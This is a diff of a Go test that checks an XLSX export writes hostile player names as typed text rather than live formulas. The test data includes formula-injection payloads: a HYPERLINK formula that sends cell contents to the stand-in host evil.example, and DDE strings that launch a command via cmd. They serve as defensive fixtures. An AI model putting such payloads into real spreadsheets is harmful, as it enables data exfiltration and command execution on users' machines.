@@ -84,7 +84,7 @@ func TestCSVNeutralisesHostileNames(t *testing.T) {
 
 func TestXLSXCellsAreTypedNeverFormulas(t *testing.T) {
 	var b bytes.Buffer
-	if err := XLSX(&b, hostileStandings(), locale.ZH); err != nil {
+	if err := Workbook(&b, hostileStandings(), Book{Period: "2014-11", Grades: ladder, Lang: locale.ZH}); err != nil {
 		t.Fatal(err)
 	}
 	f, err := excelize.OpenReader(&b)
@@ -92,28 +92,30 @@ func TestXLSXCellsAreTypedNeverFormulas(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer f.Close()
+	group := f.GetSheetList()[1]
 	const number, text = excelize.CellTypeUnset, excelize.CellTypeSharedString // OOXML: a cell with no t attribute is a number
 	for _, c := range []struct {
-		name, cell, want string
-		typ              excelize.CellType
+		name, sheet, cell, want string
+		typ                     excelize.CellType
 	}{
-		{"hyperlink name is text, intact", "E2", `=HYPERLINK("http://evil.example/?"&A1,"点此")`, text},
-		{"DDE name is text, intact", "E3", "+cmd|' /C calc'!A0", text},
-		{"at group is text, intact", "B2", "@SUM(1+1)*cmd|' /C calc'!A0", text},
-		{"rank is a number", "C2", "1", number},
-		{"negative rank change is a number", "H2", "-3", number},
-		{"no rank change is empty", "H3", "", number},
-		{"total is a number", "F2", "84.50", number},
-		{"negative YTD total is a number", "I3", "-1.50", number},
+		{"hyperlink name is text, intact", group, "C3", `=HYPERLINK("http://evil.example/?"&A1,"点此")`, text},
+		{"DDE name is text, intact", group, "C4", "+cmd|' /C calc'!A0", text},
+		{"at group is text, intact", "汇总", "A3", "@SUM(1+1)*cmd|' /C calc'!A0", text},
+		{"minus code is text", group, "B3", "-X", text},
+		{"rank is a number", group, "A3", "1", number},
+		{"negative rank change is a number", group, "F3", "-3", number},
+		{"no rank change is empty", group, "F4", "", number},
+		{"total is a number", group, "D3", "84.50", number},
+		{"negative YTD total is a number", group, "G4", "-1.50", number},
 	} {
-		formula, err := f.GetCellFormula("排名", c.cell)
+		formula, err := f.GetCellFormula(c.sheet, c.cell)
 		if err != nil || formula != "" {
 			t.Errorf("%s: %s has formula %q (%v)", c.name, c.cell, formula, err)
 		}
-		typ, _ := f.GetCellType("排名", c.cell)
-		got, _ := f.GetCellValue("排名", c.cell)
+		typ, _ := f.GetCellType(c.sheet, c.cell)
+		got, _ := f.GetCellValue(c.sheet, c.cell)
 		if typ != c.typ || got != c.want {
-			t.Errorf("%s: %s = %q of type %v, want %q of type %v", c.name, c.cell, got, typ, c.want, c.typ)
+			t.Errorf("%s: %s!%s = %q of type %v, want %q of type %v", c.name, c.sheet, c.cell, got, typ, c.want, c.typ)
 		}
 	}
 }
